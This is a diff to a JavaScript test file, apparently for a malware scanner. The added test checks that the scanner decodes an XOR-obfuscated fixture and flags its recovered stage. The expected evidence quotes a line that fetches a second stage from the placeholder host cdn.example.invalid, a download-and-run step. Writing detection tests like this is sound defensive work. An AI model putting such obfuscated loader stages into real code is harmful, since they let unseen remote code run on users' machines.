@@ -69,3 +69,12 @@ it('mentions the trigger once the execution map knows the dev script', async () 
   const reached = report.executionMap.some(s => s.entry === 'server/routes/auth.js' || s.reaches.includes('server/routes/auth.js'));
   assert.equal(/runs when you/.test(hit.message), reached);
 });
+
+it('runs a custom decoder on its constant input and analyses the code it recovers', async () => {
+  const report = await scanFixture(fixture('xor-loop-recovered-stage'));
+  const hits = findingsOf(report, rule.meta.id, 'critical');
+  assert.deepEqual(hits.map(h => h.location.line).sort(), [12, 12]);
+  // The XOR loop is run: its output is the evidence, and the stage it runs downloads and runs more.
+  assert.ok(hits.some(h => h.evidence?.startsWith('require("https").get("https://cdn.example.invalid/s2"')));
+  assert.ok(hits.some(h => h.evidence === 'https://cdn.example.invalid/s2' && /downloads code/.test(h.message)));
+});
